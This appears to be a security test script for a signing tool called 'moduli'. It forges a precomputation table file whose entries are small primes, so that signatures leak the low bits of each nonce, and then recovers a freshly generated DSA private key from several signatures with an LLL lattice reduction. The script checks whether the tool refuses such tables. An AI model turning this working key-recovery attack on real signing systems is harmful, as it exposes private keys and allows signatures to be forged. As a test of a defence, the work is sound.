#!/usr/bin/env python3
"""Tries to steal a DSA key by means of a forged table file: python3 scripts/forged_table.py target/release/moduli

The file names the right modulus and base, and its checksum holds, but its entries are small primes where they should be
powers of the base. With it g^k becomes a product of the primes at the bits of the nonce k that are set: r, factored, shows
those bits, and a few signatures with 44 known bits each give the key by a short vector of a lattice (the hidden number
problem: Boneh and Venkatesan 1996; Howgrave-Graham and Smart 2001).

Exit status 0: the command refuses the table for its entries and writes no signature; if the table is trusted by its digest, the
key is recovered, which shows that the attack works. 1: it signed, and the key was recovered. 2: anything else.
"""

import base64
import hashlib
import json
import pathlib
import struct
import subprocess
import sys
import tempfile

GROUP = "dsa-2048-256"
KNOWN = 44  # The product of the first 44 primes has 256 bits: r is smaller than q as an integer, and factors.
SIGNATURES = 7


def little_endian(number):
    return number.to_bytes((number.bit_length() + 7) // 8, "little")


def first_primes(count):
    primes = []
    candidate = 2
    while len(primes) < count:
        if all(candidate % prime for prime in primes):
            primes.append(candidate)
        candidate += 1
    return primes


def forged_table(p, g, bits, primes):
    """A table file in the format of docs/table-file.md: a comb of `bits` tables with one tooth, so one entry per bit."""
    words = (p.bit_length() + 63) // 64
    numbers = [little_endian(p), little_endian(g), b""]
    length = (84 + sum(map(len, numbers)) + 63) // 64 * 64
    header = b"\x89moduli\n" + struct.pack("<II", 1, length) + b"limbs64 " + struct.pack("<QQQ", words, words, bits)
    header += struct.pack("<IIIIII", 2, 1, bits, 0, 1, bits) + struct.pack("<III", *map(len, numbers))
    entries = primes + [1] * (bits - len(primes))
    body = b"".join(((entry << 64 * words) % p).to_bytes(8 * words, "little") for entry in entries)
    file = (header + b"".join(numbers)).ljust(length, b"\0") + body
    return file + hashlib.sha256(file).digest()


def read_signature(der):
    """The integers r and s of a short DER sequence."""
    end = 4 + der[3]
    return int.from_bytes(der[4:end], "big"), int.from_bytes(der[end + 2 :], "big")


def known_bits(r, primes):
    """The low bits of the nonce, if r is the product of the primes at the bits that are set; otherwise None."""
    bits = 0
    for place, prime in enumerate(primes):
        if r % prime == 0:
            bits |= 1 << place
            r //= prime
    return bits if r == 1 else None


def reduce_basis(basis):
    """LLL in integers (Cohen, A Course in Computational Algebraic Number Theory, algorithm 2.6.7)."""
    n = len(basis)
    dot = lambda a, b: sum(x * y for x, y in zip(a, b))
    d = [1] + [0] * n
    mu = [[0] * n for _ in range(n)]
    for k in range(n):
        for j in range(k + 1):
            u = dot(basis[k], basis[j])
            for i in range(j):
                u = (d[i + 1] * u - mu[k][i] * mu[j][i]) // d[i]
            if j < k:
                mu[k][j] = u
            else:
                d[k + 1] = u

    def subtract(k, l):
        q = (2 * mu[k][l] + d[l + 1]) // (2 * d[l + 1])
        if q:
            basis[k] = [x - q * y for x, y in zip(basis[k], basis[l])]
            mu[k][l] -= q * d[l + 1]
            for i in range(l):
                mu[k][i] -= q * mu[l][i]

    def swap(k):
        basis[k], basis[k - 1] = basis[k - 1], basis[k]
        mu[k][: k - 1], mu[k - 1][: k - 1] = mu[k - 1][: k - 1], mu[k][: k - 1]
        m = mu[k][k - 1]
        b = (d[k - 1] * d[k + 1] + m * m) // d[k]
        for i in range(k + 1, n):
            t = mu[i][k]
            mu[i][k] = (d[k + 1] * mu[i][k - 1] - m * t) // d[k]
            mu[i][k - 1] = (b * t + m * mu[i][k]) // d[k + 1]
        d[k] = b

    k = 1
    while k < n:
        subtract(k, k - 1)
        if 4 * d[k + 1] * d[k - 1] < 3 * d[k] ** 2 - 4 * mu[k][k - 1] ** 2:
            swap(k)
            k = max(1, k - 1)
        else:
            for l in range(k - 2, -1, -1):
                subtract(k, l)
            k += 1
    return basis


def recover(q, samples):
    """The key from (r, s, h, low bits of the nonce): s·(low + 2^KNOWN·t) = h + x·r for t below q/2^KNOWN."""
    bound = q >> KNOWN
    rows = []
    for r, s, h, low in samples:
        inverse = pow(s << KNOWN, -1, q)
        rows.append((r * inverse % q, ((h - s * low) * inverse - bound // 2) % q))
    # t_i − bound/2 = a_i·x + b_i modulo q, and all of these are small. The scale q/bound gives them the weight of x.
    count, scale = len(rows), q // bound
    basis = [[scale * q if i == j else 0 for j in range(count)] + [0, 0] for i in range(count)]
    basis.append([scale * a for a, _ in rows] + [1, 0])
    basis.append([scale * b for _, b in rows] + [0, q])
    right = lambda x: all((h + x * r) * pow(s, -1, q) % q % (1 << KNOWN) == low for r, s, h, low in samples)
    for vector in reduce_basis(basis):
        for x in (vector[count] % q, -vector[count] % q):
            if x and right(x):
                return x
    return None


def attack(moduli, folder):
    run = lambda *arguments: subprocess.run([moduli, *arguments], capture_output=True, text=True, cwd=folder)
    group = run("--json", "groups", GROUP)
    p, q, g = (int(json.loads(group.stdout)[name], 16) for name in "pqg")
    primes = first_primes(KNOWN)
    (folder / "table").write_bytes(forged_table(p, g, q.bit_length(), primes))
    run("dsa", "keygen", "--group", GROUP, "-o", "key.pem", "--public-key", "public.pem").check_returncode()
    texts = [f"text{i}" for i in range(SIGNATURES)]
    for text in texts:
        (folder / text).write_text(text)
    sign = ("dsa", "sign", "--key", "key.pem", "--table", "table")
    signed = run(*sign, *texts)
    refused = signed.returncode != 0 and not list(folder.glob("*.sig"))
    if refused:
        print(f"refused: {signed.stderr.strip()}")
        if "entry" not in signed.stderr:
            print("but not for its entries: this is not the attack")
            return 2
        # To show that the attack works, sign again and trust the file by its digest, as only its owner should.
        run(*sign, "--digest", (folder / "table").read_bytes()[-32:].hex(), *texts).check_returncode()

    samples = []
    for text in texts:
        r, s = read_signature((folder / f"{text}.sig").read_bytes())
        h = int.from_bytes(hashlib.sha256(text.encode()).digest(), "big")
        low = known_bits(r, primes)
        if low is not None:
            samples.append((r, s, h, low))
    x = recover(q, samples) if samples else None
    public = base64.b64decode("".join((folder / "public.pem").read_text().splitlines()[1:-1]))
    if x is None or pow(g, x, p).to_bytes((p.bit_length() + 7) // 8, "big").lstrip(b"\0") not in public:
        print(f"signed with a forged table; the key was not recovered from {len(samples)} signatures")
        return 2
    if refused:
        print("where its digest is trusted, it gives the key away")
        return 0
    print("private key recovered")
    return 1


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    with tempfile.TemporaryDirectory() as folder:
        return attack(str(pathlib.Path(sys.argv[1]).resolve()), pathlib.Path(folder))


if __name__ == "__main__":
    sys.exit(main())
